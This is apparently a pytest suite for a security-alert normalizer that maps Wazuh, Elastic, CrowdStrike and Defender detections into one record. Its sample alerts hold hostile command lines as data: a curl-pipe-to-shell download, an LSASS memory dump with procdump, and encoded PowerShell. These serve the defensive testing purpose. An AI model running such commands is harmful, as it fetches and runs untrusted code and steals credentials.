"""Tests for normalize: field mapping, severities and errors for every source."""

import copy
from datetime import UTC, datetime

import pytest

from playbooks.normalizers import (
    SEVERITIES,
    SOURCES,
    NormalizationError,
    NormalizedDetection,
    normalize,
)

SHA256 = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"


def wazuh_alert() -> dict:
    return {
        "timestamp": "2026-03-02T10:15:00.120+0000",
        "rule": {
            "level": 12,
            "description": "Encoded PowerShell started by Word",
            "id": "92057",
            "mitre": {
                "id": ["T1059.001", "T1204"],
                "tactic": ["Execution", "Defense Evasion"],
                "technique": ["PowerShell", "User Execution"],
            },
        },
        "agent": {"id": "014", "name": "FIN-LAPTOP-7", "ip": "10.20.0.7"},
        "manager": {"name": "wazuh-eu"},
        "id": "1772446500.48213",
        "data": {
            "win": {
                "system": {"computer": "FIN-LAPTOP-7.corp.example"},
                "eventdata": {
                    "commandLine": (
                        '\\"C:\\\\Windows\\\\powershell.exe\\" -enc SQBFAFgA'
                    ),
                    "image": "C:\\\\Windows\\\\powershell.exe",
                    "user": "CORP\\\\m.weber",
                    "hashes": (
                        f"MD5=00112233445566778899AABBCCDDEEFF,SHA256={SHA256.upper()}"
                    ),
                },
            }
        },
    }


def elastic_alert() -> dict:
    return {
        "@timestamp": "2026-03-02T10:16:00.000Z",
        "kibana.alert.uuid": "5b0c2d0e8e4f4a6b9a1f3c2d1e0f9a8b",
        "kibana.alert.rule.name": "Suspicious Office child process",
        "kibana.alert.severity": "high",
        "kibana.alert.risk_score": 73,
        "kibana.alert.original_time": "2026-03-02T10:15:58.250Z",
        "kibana.alert.rule.threat": [
            {
                "framework": "MITRE ATT&CK",
                "tactic": {"id": "TA0002", "name": "Execution"},
                "technique": [
                    {
                        "id": "T1059",
                        "name": "Command and Scripting Interpreter",
                        "subtechnique": [{"id": "T1059.001", "name": "PowerShell"}],
                    }
                ],
            }
        ],
        "host": {"name": "fin-laptop-7", "hostname": "FIN-LAPTOP-7"},
        "agent": {"id": "0d6c7a4e-1111-4222-8333-944455566677", "type": "endpoint"},
        "user": {"name": "m.weber", "domain": "CORP"},
        "process": {
            "command_line": "powershell.exe -enc SQBFAFgA",
            "executable": "C:\\Windows\\powershell.exe",
            "hash": {"sha256": SHA256},
        },
    }


def crowdstrike_epp_event() -> dict:
    return {
        "metadata": {
            "eventType": "EppDetectionSummaryEvent",
            "eventCreationTime": 1772446560000,
            "offset": 77,
        },
        "event": {
            "CompositeId": "cid1:ind:aid1:1234-56-7890",
            "Name": "Suspicious Activity",
            "IOARuleName": "Office spawning PowerShell",
            "Severity": 70,
            "SeverityName": "High",
            "Hostname": "FIN-LAPTOP-7",
            "AgentId": "aid1",
            "UserName": "m.weber",
            "LogonDomain": "CORP",
            "CommandLine": "powershell.exe -enc SQBFAFgA",
            "FilePath": "\\Device\\HarddiskVolume3\\Windows\\powershell.exe",
            "FileName": "powershell.exe",
            "SHA256String": SHA256.upper(),
            "Tactic": "Execution",
            "Technique": "PowerShell",
            "TechniqueId": "T1059.001",
            "ProcessId": 377077835340488700,
        },
    }


def crowdstrike_alerts_api_entity() -> dict:
    return {
        "composite_id": "cid2:ind:aid2:9876-54-3210",
        "display_name": "Credential dumping tool",
        "name": "CredentialDumpingTool",
        "severity": 90,
        "severity_name": "Critical",
        "timestamp": "2026-03-02T10:15:00.123456789Z",
        "created_timestamp": "2026-03-02T10:16:00Z",
        "device": {"device_id": "aid2", "hostname": "DC-01"},
        "agent_id": "aid2",
        "user_name": "svc_backup",
        "logon_domain": "CORP",
        "cmdline": "procdump.exe -ma lsass.exe out.dmp",
        "filepath": "C:\\Tools\\procdump.exe",
        "sha256": SHA256,
        "tactic": "Credential Access",
        "tactic_id": "TA0006",
        "technique": "OS Credential Dumping",
        "technique_id": "T1003",
    }


def defender_v1_alert() -> dict:
    return {
        "id": "da638000000000000000_123456",
        "title": "Suspicious LSASS access",
        "severity": "High",
        "category": "CredentialAccess",
        "alertCreationTime": "2026-03-02T10:20:00.1234567Z",
        "firstEventTime": "2026-03-02T10:15:00.7654321Z",
        "machineId": "1e2d3c4b5a6978877665544332211000aabbccdd",
        "computerDnsName": "dc-01.corp.example",
        "relatedUser": {"userName": "svc_backup", "domainName": "CORP"},
        "mitreTechniques": ["T1003.001"],
        "evidence": [
            {"entityType": "User", "accountName": "svc_backup", "domainName": "CORP"},
            {
                "entityType": "Process",
                "fileName": "procdump.exe",
                "filePath": "C:\\Tools",
                "sha256": SHA256,
                "processCommandLine": "procdump.exe -ma lsass.exe out.dmp",
            },
        ],
    }


def defender_graph_alert() -> dict:
    return {
        "@odata.type": "#microsoft.graph.security.alert",
        "id": "da638000000000000000_654321",
        "title": "Hidden file executed",
        "severity": "medium",
        "category": "DefenseEvasion",
        "createdDateTime": "2026-03-02T10:20:00Z",
        "firstActivityDateTime": "2026-03-02T10:14:00Z",
        "mitreTechniques": ["T1564.001", "T1059"],
        "evidence": [
            {
                "@odata.type": "#microsoft.graph.security.deviceEvidence",
                "deviceDnsName": "fin-laptop-7",
                "mdeDeviceId": "feedfacefeedfacefeedfacefeedfacefeedface",
            },
            {
                "@odata.type": "#microsoft.graph.security.processEvidence",
                "processCommandLine": "hidden.exe /quiet",
                "imageFile": {
                    "fileName": "hidden.exe",
                    "filePath": "C:\\Users\\m.weber\\AppData",
                    "sha256": SHA256,
                },
                "userAccount": {"accountName": "m.weber", "domainName": "CORP"},
            },
            {
                "@odata.type": "#microsoft.graph.security.userEvidence",
                "userAccount": {
                    "accountName": "m.weber",
                    "userPrincipalName": "m.weber@corp.example",
                },
            },
        ],
    }


def generic_detection() -> dict:
    return {
        "external_id": "ticket-4411",
        "title": "Beacon to known C2",
        "severity": "HIGH",
        "occurred": "2026-03-02T11:15:00+01:00",
        "hostname": "web-02",
        "vendor_endpoint_id": "agent-77",
        "username": "www-data",
        "command_line": "curl http://198.51.100.9/x | sh",
        "file_path": "/tmp/x",
        "file_sha256": SHA256.upper(),
        "mitre_tactic": "command and control",
        "mitre_technique": "t1071.001",
        "extra": {"kept": True},
    }


def okta_event() -> dict:
    return {
        "uuid": "6b1d7c2e-0000-11f0-9c1b-0123456789ab",
        "published": "2026-03-02T10:15:00.000Z",
        "eventType": "user.account.lock",
        "displayMessage": "Max sign in attempts exceeded",
        "severity": "WARN",
        "actor": {"alternateId": "m.weber@corp.example", "type": "User"},
        "outcome": {"result": "FAILURE", "reason": "LOCKED_OUT"},
    }


def windows_event() -> dict:
    return {
        "EventID": "4688",
        "Computer": "FIN-LAPTOP-7",
        "Channel": "Security",
        "EventRecordID": "991",
        "TimeCreated": "2026-03-02 10:15:00 +0000",
        "MessageTitle": "A new process has been created",
        "ExtraEventData": {
            "SubjectUserName": "m.weber",
            "SubjectDomainName": "CORP",
            "CommandLine": "whoami /all",
            "NewProcessName": "C:\\Windows\\System32\\whoami.exe",
        },
    }


def test_normalize_sources_listed() -> None:
    assert SOURCES == ("generic", "wazuh", "elastic", "crowdstrike", "defender")


def test_normalize_unknown_source() -> None:
    with pytest.raises(NormalizationError) as caught:
        normalize("splunk", {"title": "x"})

    assert caught.value.field == "source"
    assert caught.value.source == "splunk"
    assert "expected one of generic, wazuh" in str(caught.value)


def test_normalize_rejects_non_object() -> None:
    with pytest.raises(NormalizationError, match="expected a JSON object"):
        normalize("generic", ["not", "an", "object"])  # type: ignore[arg-type]


def test_normalize_rejects_nul_in_any_field() -> None:
    document = crowdstrike_epp_event()
    document["event"]["CommandLine"] = "cmd.exe\x00/c whoami"

    with pytest.raises(NormalizationError) as caught:
        normalize("crowdstrike", document)

    assert caught.value.field == "event.CommandLine"
    assert "cannot be stored" in str(caught.value)


def test_normalize_keeps_raw_unchanged() -> None:
    document = wazuh_alert()
    before = copy.deepcopy(document)

    detection = normalize("wazuh", document)

    assert detection.raw is document
    assert document == before


def test_normalize_detection_is_frozen() -> None:
    detection = normalize("generic", generic_detection())

    with pytest.raises(AttributeError):
        detection.title = "changed"  # type: ignore[misc]


def test_wazuh_maps_fields() -> None:
    detection = normalize("wazuh", wazuh_alert())

    assert detection == NormalizedDetection(
        source="wazuh",
        external_id="wazuh-eu:1772446500.48213",
        title="Encoded PowerShell started by Word",
        severity="high",
        original_severity="12",
        occurred=datetime(2026, 3, 2, 10, 15, 0, 120000, tzinfo=UTC),
        hostname="FIN-LAPTOP-7",
        vendor_endpoint_id="014",
        username="CORP\\m.weber",
        command_line='"C:\\Windows\\powershell.exe" -enc SQBFAFgA',
        file_path="C:\\Windows\\powershell.exe",
        file_sha256=SHA256,
        mitre_tactic="Execution",
        mitre_technique="T1059.001",
        raw=detection.raw,
    )


def test_wazuh_security_event_user_and_linux_user() -> None:
    security = wazuh_alert()
    security["data"] = {
        "win": {
            "eventdata": {
                "subjectUserName": "FIN-LAPTOP-7$",
                "subjectDomainName": "CORP",
                "targetUserName": "m.weber",
                "targetDomainName": "CORP",
            }
        }
    }
    linux = wazuh_alert()
    linux["data"] = {"srcip": "192.0.2.4", "dstuser": "deploy"}

    assert normalize("wazuh", security).username == "CORP\\m.weber"
    assert normalize("wazuh", linux).username == "deploy"


def test_wazuh_first_valid_technique() -> None:
    document = wazuh_alert()
    document["rule"]["mitre"]["id"] = ["custom-1", "T1110"]

    assert normalize("wazuh", document).mitre_technique == "T1110"


def test_wazuh_without_description_or_manager() -> None:
    document = wazuh_alert()
    del document["rule"]["description"]
    del document["manager"]

    detection = normalize("wazuh", document)

    assert detection.title == "Wazuh rule 92057"
    assert detection.external_id == "1772446500.48213"


def test_wazuh_fim_hash_and_path() -> None:
    document = wazuh_alert()
    document["data"] = {}
    document["syscheck"] = {"path": "/etc/passwd", "sha256_after": SHA256}

    detection = normalize("wazuh", document)

    assert detection.file_path == "/etc/passwd"
    assert detection.file_sha256 == SHA256


@pytest.mark.parametrize(
    ("level", "severity"),
    [
        (0, "low"),
        (6, "low"),
        (7, "medium"),
        (11, "medium"),
        (12, "high"),
        (14, "high"),
        (15, "critical"),
        ("9", "medium"),
    ],
)
def test_wazuh_severity_bands(level: object, severity: str) -> None:
    document = wazuh_alert()
    document["rule"]["level"] = level

    detection = normalize("wazuh", document)

    assert detection.severity == severity
    assert detection.original_severity == str(level)


@pytest.mark.parametrize("level", [16, -1, "high", 7.5])
def test_wazuh_invalid_level(level: object) -> None:
    document = wazuh_alert()
    document["rule"]["level"] = level

    with pytest.raises(NormalizationError) as caught:
        normalize("wazuh", document)

    assert caught.value.field == "rule.level"
    assert "expected an integer from 0 to 15" in str(caught.value)


@pytest.mark.parametrize(
    ("remove", "field"),
    [
        (("id",), "id"),
        (("timestamp",), "timestamp"),
        (("rule", "level"), "rule.level"),
    ],
)
def test_wazuh_missing_field(remove: tuple[str, ...], field: str) -> None:
    document = wazuh_alert()
    parent = document
    for key in remove[:-1]:
        parent = parent[key]
    del parent[remove[-1]]

    with pytest.raises(NormalizationError) as caught:
        normalize("wazuh", document)

    assert caught.value.field == field
    assert caught.value.source == "wazuh"
    assert "missing" in str(caught.value)


def test_wazuh_missing_description_and_rule_id() -> None:
    document = wazuh_alert()
    document["rule"] = {"level": 3, "id": ""}

    with pytest.raises(NormalizationError) as caught:
        normalize("wazuh", document)

    assert caught.value.field == "rule.description"


def test_elastic_maps_fields() -> None:
    detection = normalize("elastic", elastic_alert())

    assert detection == NormalizedDetection(
        source="elastic",
        external_id="5b0c2d0e8e4f4a6b9a1f3c2d1e0f9a8b",
        title="Suspicious Office child process",
        severity="high",
        original_severity="high",
        occurred=datetime(2026, 3, 2, 10, 15, 58, 250000, tzinfo=UTC),
        hostname="fin-laptop-7",
        vendor_endpoint_id="0d6c7a4e-1111-4222-8333-944455566677",
        username="CORP\\m.weber",
        command_line="powershell.exe -enc SQBFAFgA",
        file_path="C:\\Windows\\powershell.exe",
        file_sha256=SHA256,
        mitre_tactic="Execution",
        mitre_technique="T1059.001",
        raw=detection.raw,
    )


def test_elastic_nested_keys_and_arrays() -> None:
    document = {
        "@timestamp": "2026-03-02T10:16:00Z",
        "kibana": {"alert": {"uuid": "nested-uuid", "rule": {"name": "Nested"}}},
        "kibana.alert": {"severity": "critical"},
        "host": {"name": ["web-02", "web-02.example"]},
        "user": {"name": ["root"]},
    }

    detection = normalize("elastic", document)

    assert detection.external_id == "nested-uuid"
    assert detection.title == "Nested"
    assert detection.severity == "critical"
    assert detection.hostname == "web-02"
    assert detection.username == "root"
    assert detection.occurred == datetime(2026, 3, 2, 10, 16, tzinfo=UTC)


def test_elastic_search_hit_and_legacy_signal() -> None:
    hit = {
        "_id": "hit-id-1",
        "_index": ".siem-signals-default",
        "_source": {
            "@timestamp": "2026-03-02T10:16:00Z",
            "signal": {
                "rule": {
                    "name": "Legacy rule",
                    "severity": "medium",
                    "risk_score": 47,
                    "threat": [
                        {
                            "tactic": {"name": "Persistence", "id": "TA0003"},
                            "technique": [{"id": "T1053", "subtechnique": []}],
                        }
                    ],
                },
                "original_time": "2026-03-02T10:15:00Z",
            },
        },
    }

    detection = normalize("elastic", hit)

    assert detection.external_id == "hit-id-1"
    assert detection.title == "Legacy rule"
    assert detection.severity == "medium"
    assert detection.occurred == datetime(2026, 3, 2, 10, 15, tzinfo=UTC)
    assert detection.mitre_tactic == "Persistence"
    assert detection.mitre_technique == "T1053"
    assert detection.raw is hit


def test_elastic_legacy_signal_without_id_uses_hash() -> None:
    document = {
        "@timestamp": "2026-03-02T10:16:00Z",
        "signal": {"rule": {"name": "Legacy rule", "severity": "low"}},
    }
    reordered = dict(reversed(list(document.items())))

    first = normalize("elastic", document)
    second = normalize("elastic", reordered)

    assert first.external_id.startswith("sha256:")
    assert len(first.external_id) == len("sha256:") + 64
    assert first.external_id == second.external_id


def test_elastic_defend_alert() -> None:
    document = {
        "@timestamp": "2026-03-02T10:15:00.1234567Z",
        "message": "Malware Prevention Alert",
        "event": {"id": "MYfSjQEE+++D5Q", "severity": 73, "kind": "alert"},
        "agent": {"id": "agent-uuid"},
        "host": {"name": "win-1"},
        "file": {"path": "C:\\x.dll", "hash": {"sha256": SHA256}},
        "threat": {
            "tactic": {"name": ["Defense Evasion"]},
            "technique": {"id": ["T1055"], "subtechnique": {"id": ["T1055.012"]}},
        },
    }

    detection = normalize("elastic", document)

    assert detection.external_id == "MYfSjQEE+++D5Q"
    assert detection.title == "Malware Prevention Alert"
    assert detection.severity == "high"
    assert detection.original_severity == "73"
    assert detection.mitre_tactic == "Defense Evasion"
    assert detection.mitre_technique == "T1055.012"


@pytest.mark.parametrize(
    ("fields", "severity", "original"),
    [
        ({"kibana.alert.severity": "low"}, "low", "low"),
        ({"kibana.alert.severity": "Medium"}, "medium", "Medium"),
        ({"kibana.alert.severity": "critical"}, "critical", "critical"),
        ({"kibana.alert.risk_score": 21}, "low", "21"),
        ({"kibana.alert.risk_score": 22}, "medium", "22"),
        ({"kibana.alert.risk_score": 47}, "medium", "47"),
        ({"kibana.alert.risk_score": 48}, "high", "48"),
        ({"kibana.alert.risk_score": 73}, "high", "73"),
        ({"kibana.alert.risk_score": 74}, "critical", "74"),
        ({"kibana.alert.risk_score": 99}, "critical", "99"),
        ({"event": {"risk_score": 10.5}}, "low", "10.5"),
    ],
)
def test_elastic_severity(fields: dict, severity: str, original: str) -> None:
    document = {
        "@timestamp": "2026-03-02T10:16:00Z",
        "kibana.alert.uuid": "u1",
        "kibana.alert.rule.name": "Rule",
        **fields,
    }

    detection = normalize("elastic", document)

    assert detection.severity == severity
    assert detection.original_severity == original


def test_elastic_invalid_severity_name() -> None:
    document = elastic_alert()
    document["kibana.alert.severity"] = "severe"
    del document["kibana.alert.risk_score"]

    with pytest.raises(NormalizationError) as caught:
        normalize("elastic", document)

    assert caught.value.field == "kibana.alert.severity"
    assert "'severe' is invalid" in str(caught.value)


def test_elastic_invalid_severity() -> None:
    document = elastic_alert()
    document["kibana.alert.severity"] = "severe"
    document["kibana.alert.risk_score"] = 120

    with pytest.raises(NormalizationError) as caught:
        normalize("elastic", document)

    assert caught.value.field == "kibana.alert.risk_score"
    assert "out of range" in str(caught.value)


@pytest.mark.parametrize(
    ("remove", "field"),
    [
        (("kibana.alert.rule.name",), "kibana.alert.rule.name"),
        (("kibana.alert.severity", "kibana.alert.risk_score"), "kibana.alert.severity"),
        (("@timestamp", "kibana.alert.original_time"), "kibana.alert.original_time"),
    ],
)
def test_elastic_missing_field(remove: tuple[str, ...], field: str) -> None:
    document = elastic_alert()
    for key in remove:
        del document[key]

    with pytest.raises(NormalizationError) as caught:
        normalize("elastic", document)

    assert caught.value.field == field
    assert "missing" in str(caught.value)


def test_crowdstrike_epp_event_maps_fields() -> None:
    detection = normalize("crowdstrike", crowdstrike_epp_event())

    assert detection == NormalizedDetection(
        source="crowdstrike",
        external_id="cid1:ind:aid1:1234-56-7890",
        title="Office spawning PowerShell",
        severity="high",
        original_severity="70",
        occurred=datetime(2026, 3, 2, 10, 16, tzinfo=UTC),
        hostname="FIN-LAPTOP-7",
        vendor_endpoint_id="aid1",
        username="CORP\\m.weber",
        command_line="powershell.exe -enc SQBFAFgA",
        file_path="\\Device\\HarddiskVolume3\\Windows\\powershell.exe",
        file_sha256=SHA256,
        mitre_tactic="Execution",
        mitre_technique="T1059.001",
        raw=detection.raw,
    )


def test_crowdstrike_event_type_case_and_legacy_summary() -> None:
    lower = crowdstrike_epp_event()
    lower["metadata"]["eventType"] = "EPPDetectionSummaryEvent"
    legacy = {
        "metadata": {"eventType": "DetectionSummaryEvent", "eventCreationTime": 1},
        "event": {
            "DetectId": "ldt:aid3:42",
            "DetectName": "NGAV",
            "Severity": 4,
            "SeverityName": "High",
            "ComputerName": "HOST-3",
            "SensorId": "aid3",
            "UserName": "alice",
            "FilePath": "\\Device\\HarddiskVolume3\\Users\\alice",
            "FileName": "tool.exe",
            "Tactic": "Malware",
            "Technique": "PUP",
        },
    }
    legacy["metadata"]["eventCreationTime"] = 1772446560000

    assert normalize("crowdstrike", lower).external_id == "cid1:ind:aid1:1234-56-7890"
    detection = normalize("crowdstrike", legacy)
    assert detection.external_id == "ldt:aid3:42"
    assert detection.severity == "high"
    assert detection.original_severity == "4"
    assert detection.hostname == "HOST-3"
    assert detection.vendor_endpoint_id == "aid3"
    assert detection.file_path == "\\Device\\HarddiskVolume3\\Users\\alice\\tool.exe"
    assert detection.mitre_tactic == ""
    assert detection.mitre_technique == ""


def test_crowdstrike_alerts_api_entity() -> None:
    detection = normalize("crowdstrike", crowdstrike_alerts_api_entity())

    assert detection.external_id == "cid2:ind:aid2:9876-54-3210"
    assert detection.title == "Credential dumping tool"
    assert detection.severity == "critical"
    assert detection.original_severity == "90"
    assert detection.occurred == datetime(2026, 3, 2, 10, 15, 0, 123456, tzinfo=UTC)
    assert detection.hostname == "DC-01"
    assert detection.vendor_endpoint_id == "aid2"
    assert detection.username == "CORP\\svc_backup"
    assert detection.command_line == "procdump.exe -ma lsass.exe out.dmp"
    assert detection.file_sha256 == SHA256
    assert detection.mitre_tactic == "Credential Access"
    assert detection.mitre_technique == "T1003"


def test_crowdstrike_identity_alert_without_device() -> None:
    document = crowdstrike_alerts_api_entity()
    del document["device"]
    del document["agent_id"]
    del document["user_name"]
    del document["logon_domain"]
    document["source_endpoint_host_name"] = "ws-9.corp.example"
    document["source_endpoint_sensor_id"] = "aid9"
    document["source_account_upn"] = "svc_backup@corp.example"
    document["tactic_id"] = "CSTA0004"
    document["technique_id"] = "CST0007"
    document["tactic"] = "Machine Learning"

    detection = normalize("crowdstrike", document)

    assert detection.hostname == "ws-9.corp.example"
    assert detection.vendor_endpoint_id == "aid9"
    assert detection.username == "svc_backup@corp.example"
    assert detection.mitre_tactic == ""
    assert detection.mitre_technique == ""


def test_crowdstrike_siem_connector_event() -> None:
    document = {
        "ExternalApiType": "Event_EppDetectionSummaryEvent",
        "CompositeId": "cid4:ind:aid4:1-2-3",
        "Name": "NGAV",
        "Severity": 2,
        "SeverityName": "Low",
        "UTCTimestamp": "2026-03-02 10:15:00Z",
        "Hostname": "macbook",
        "SensorId": "aid4",
        "UserName": "bob",
        "FilePath": "/Applications/app.app/Contents/MacOS/",
        "FileName": "pup app",
        "SHA256String": "0" * 64,
        "PatternDispositionFlags": '{"ProcessBlocked": true}',
    }

    detection = normalize("crowdstrike", document)

    assert detection.external_id == "cid4:ind:aid4:1-2-3"
    assert detection.severity == "low"
    assert detection.occurred == datetime(2026, 3, 2, 10, 15, tzinfo=UTC)
    assert detection.vendor_endpoint_id == "aid4"
    assert detection.file_path == "/Applications/app.app/Contents/MacOS/pup app"
    assert detection.file_sha256 == ""


def test_crowdstrike_replicator_event() -> None:
    document = {
        "id": "b0c07877-0000-49f8-8cb3-150149a557b2",
        "event_simpleName": "ProcessRollup2",
        "aid": "aid5",
        "timestamp": "2026-03-02 10:15:00.719",
        "event": {
            "CommandLine": 'powershell -Command "Atualização concluída"',
            "ImageFileName": "\\Device\\HarddiskVolume2\\powershell.exe",
            "SHA256HashData": SHA256,
            "timestamp": "1772446500719",
        },
    }

    detection = normalize("crowdstrike", document)

    assert detection.external_id == "b0c07877-0000-49f8-8cb3-150149a557b2"
    assert detection.title == "ProcessRollup2"
    assert detection.severity == "medium"
    assert detection.original_severity == ""
    assert detection.occurred == datetime(2026, 3, 2, 10, 15, 0, 719000, tzinfo=UTC)
    assert detection.command_line == 'powershell -Command "Atualização concluída"'


@pytest.mark.parametrize(
    ("severity", "name", "expected"),
    [
        (1, None, "low"),
        (2, None, "low"),
        (3, None, "medium"),
        (4, None, "high"),
        (5, None, "critical"),
        (10, None, "low"),
        (30, None, "low"),
        (50, None, "medium"),
        (70, None, "high"),
        (79, None, "high"),
        (90, None, "critical"),
        (100, None, "critical"),
        (None, "Informational", "low"),
        (None, "Low", "low"),
        (None, "medium", "medium"),
        (None, "High", "high"),
        (None, "CRITICAL", "critical"),
    ],
)
def test_crowdstrike_severity(severity: object, name: object, expected: str) -> None:
    document = crowdstrike_alerts_api_entity()
    document["severity"] = severity
    document["severity_name"] = name

    detection = normalize("crowdstrike", document)

    assert detection.severity == expected
    assert detection.original_severity == str(severity if severity else name)


def test_crowdstrike_invalid_severity() -> None:
    document = crowdstrike_alerts_api_entity()
    document["severity"] = None
    document["severity_name"] = "Severe"

    with pytest.raises(NormalizationError) as caught:
        normalize("crowdstrike", document)

    assert caught.value.field == "severity"
    assert "'Severe'" in str(caught.value)


def test_crowdstrike_unknown_form() -> None:
    with pytest.raises(NormalizationError) as caught:
        normalize("crowdstrike", {"hello": "world"})

    assert caught.value.field == "metadata.eventType"


def test_crowdstrike_streaming_event_that_is_not_a_detection() -> None:
    document = crowdstrike_epp_event()
    document["metadata"]["eventType"] = "AuthActivityAuditEvent"

    with pytest.raises(NormalizationError) as caught:
        normalize("crowdstrike", document)

    assert caught.value.field == "metadata.eventType"
    assert "'AuthActivityAuditEvent' is not a detection" in str(caught.value)


@pytest.mark.parametrize(
    ("factory", "path", "field"),
    [
        (crowdstrike_epp_event, ("event", "CompositeId"), "event.CompositeId"),
        (crowdstrike_epp_event, ("metadata", "eventCreationTime"), None),
        (crowdstrike_alerts_api_entity, ("composite_id",), "composite_id"),
        (crowdstrike_alerts_api_entity, ("display_name", "name"), "display_name"),
    ],
)
def test_crowdstrike_missing_field(
    factory: object, path: tuple[str, ...], field: str | None
) -> None:
    document = factory()  # type: ignore[operator]
    if path[0] in ("event", "metadata"):
        del document[path[0]][path[1]]
        field = field or f"{path[0]}.{path[1]}"
    else:
        for key in path:
            document[key] = ""

    with pytest.raises(NormalizationError) as caught:
        normalize("crowdstrike", document)

    assert caught.value.field == field
    assert "missing" in str(caught.value)


def test_defender_v1_maps_fields() -> None:
    detection = normalize("defender", defender_v1_alert())

    assert detection == NormalizedDetection(
        source="defender",
        external_id="da638000000000000000_123456",
        title="Suspicious LSASS access",
        severity="high",
        original_severity="High",
        occurred=datetime(2026, 3, 2, 10, 15, 0, 765432, tzinfo=UTC),
        hostname="dc-01.corp.example",
        vendor_endpoint_id="1e2d3c4b5a6978877665544332211000aabbccdd",
        username="CORP\\svc_backup",
        command_line="procdump.exe -ma lsass.exe out.dmp",
        file_path="C:\\Tools\\procdump.exe",
        file_sha256=SHA256,
        mitre_tactic="Credential Access",
        mitre_technique="T1003.001",
        raw=detection.raw,
    )


def test_defender_v1_single_evidence_object_and_null_user() -> None:
    document = defender_v1_alert()
    document["relatedUser"] = None
    document["evidence"] = {
        "entityType": "User",
        "accountName": "administrator1",
        "domainName": "TestServer4",
    }

    detection = normalize("defender", document)

    assert detection.username == "TestServer4\\administrator1"
    assert detection.command_line == ""
    assert detection.file_sha256 == ""


def test_defender_graph_maps_fields() -> None:
    detection = normalize("defender", defender_graph_alert())

    assert detection == NormalizedDetection(
        source="defender",
        external_id="da638000000000000000_654321",
        title="Hidden file executed",
        severity="medium",
        original_severity="medium",
        occurred=datetime(2026, 3, 2, 10, 14, tzinfo=UTC),
        hostname="fin-laptop-7",
        vendor_endpoint_id="feedfacefeedfacefeedfacefeedfacefeedface",
        username="m.weber@corp.example",
        command_line="hidden.exe /quiet",
        file_path="C:\\Users\\m.weber\\AppData\\hidden.exe",
        file_sha256=SHA256,
        mitre_tactic="Defense Evasion",
        mitre_technique="T1564.001",
        raw=detection.raw,
    )


def test_defender_graph_identity_alert_renamed_odata_key() -> None:
    document = {
        "id": "idp-1",
        "title": "Password Spray",
        "severity": "high",
        "category": "PasswordSpray",
        "createdDateTime": "2026-03-02T10:20:00Z",
        "evidence": [
            {
                "at_sign_odata_type": "#microsoft.graph.security.userEvidence",
                "userAccount": {"accountName": "alice", "domainName": "corp.example"},
            }
        ],
    }

    detection = normalize("defender", document)

    assert detection.hostname == ""
    assert detection.vendor_endpoint_id == ""
    assert detection.username == "corp.example\\alice"
    assert detection.occurred == datetime(2026, 3, 2, 10, 20, tzinfo=UTC)
    assert detection.mitre_tactic == ""


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Informational", "low"),
        ("informational", "low"),
        ("Low", "low"),
        ("Medium", "medium"),
        ("High", "high"),
        ("UnSpecified", "medium"),
        ("unknownFutureValue", "medium"),
    ],
)
def test_defender_severity(value: str, expected: str) -> None:
    document = defender_v1_alert()
    document["severity"] = value

    detection = normalize("defender", document)

    assert detection.severity == expected
    assert detection.original_severity == value


def test_defender_first_valid_technique() -> None:
    document = defender_graph_alert()
    document["mitreTechniques"] = ["", "Hidden Files", "T1564.001"]

    assert normalize("defender", document).mitre_technique == "T1564.001"


def test_defender_invalid_severity() -> None:
    document = defender_graph_alert()
    document["severity"] = "Critical"

    with pytest.raises(NormalizationError) as caught:
        normalize("defender", document)

    assert caught.value.field == "severity"
    assert "'Critical' is invalid" in str(caught.value)


@pytest.mark.parametrize(
    ("remove", "field"),
    [
        (("id",), "id"),
        (("title",), "title"),
        (("severity",), "severity"),
        (("firstEventTime", "alertCreationTime"), "firstEventTime"),
    ],
)
def test_defender_missing_field(remove: tuple[str, ...], field: str) -> None:
    document = defender_v1_alert()
    for key in remove:
        del document[key]

    with pytest.raises(NormalizationError) as caught:
        normalize("defender", document)

    assert caught.value.field == field
    assert "missing" in str(caught.value)


def test_generic_maps_fields() -> None:
    detection = normalize("generic", generic_detection())

    assert detection == NormalizedDetection(
        source="generic",
        external_id="ticket-4411",
        title="Beacon to known C2",
        severity="high",
        original_severity="HIGH",
        occurred=datetime(2026, 3, 2, 10, 15, tzinfo=UTC),
        hostname="web-02",
        vendor_endpoint_id="agent-77",
        username="www-data",
        command_line="curl http://198.51.100.9/x | sh",
        file_path="/tmp/x",
        file_sha256=SHA256,
        mitre_tactic="Command and Control",
        mitre_technique="T1071.001",
        raw=detection.raw,
    )


def test_generic_minimal_document_gets_stable_hash() -> None:
    document = {"title": "Manual report", "severity": 55, "occurred": 1772446500000}

    detection = normalize("generic", document)

    assert detection.external_id == normalize("generic", dict(document)).external_id
    assert detection.external_id.startswith("sha256:")
    assert detection.severity == "medium"
    assert detection.original_severity == "55"
    assert detection.occurred == datetime(2026, 3, 2, 10, 15, tzinfo=UTC)
    assert detection.hostname == ""
    assert detection.username == ""


def test_generic_stable_hash_differs_per_document() -> None:
    first = {"title": "A", "severity": "low", "occurred": "2026-03-02T10:15:00Z"}
    second = {**first, "hostname": "other"}

    assert (
        normalize("generic", first).external_id
        != normalize("generic", second).external_id
    )


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("low", "low"),
        ("Medium", "medium"),
        ("high", "high"),
        ("CRITICAL", "critical"),
        ("informational", "low"),
        ("info", "low"),
        (0, "low"),
        (39, "low"),
        (40, "medium"),
        (60, "high"),
        (80, "critical"),
        ("85", "critical"),
    ],
)
def test_generic_severity(value: object, expected: str) -> None:
    document = generic_detection()
    document["severity"] = value

    assert normalize("generic", document).severity == expected


@pytest.mark.parametrize("value", ["severe", 101, -1, True, None, ""])
def test_generic_invalid_severity(value: object) -> None:
    document = generic_detection()
    document["severity"] = value

    with pytest.raises(NormalizationError) as caught:
        normalize("generic", document)

    assert caught.value.field == "severity"
    assert "expected low, medium, high, critical" in str(caught.value)


@pytest.mark.parametrize("field", ["title", "occurred"])
def test_generic_missing_field(field: str) -> None:
    document = generic_detection()
    del document[field]

    with pytest.raises(NormalizationError) as caught:
        normalize("generic", document)

    assert caught.value.field == field
    assert caught.value.source == "generic"
    assert "missing" in str(caught.value)


@pytest.mark.parametrize(
    ("field", "value", "message"),
    [
        ("title", 42, "expected a string"),
        ("hostname", ["web-02"], "expected a string"),
        ("file_sha256", "abc", "expected 64 hex digits"),
        ("mitre_technique", "PowerShell", "expected an id such as T1059.001"),
        ("mitre_tactic", "Malware", "expected an ATT&CK tactic"),
        ("occurred", "yesterday", "'yesterday' is not a time"),
        ("external_id", "x" * 256, "at most 255"),
    ],
)
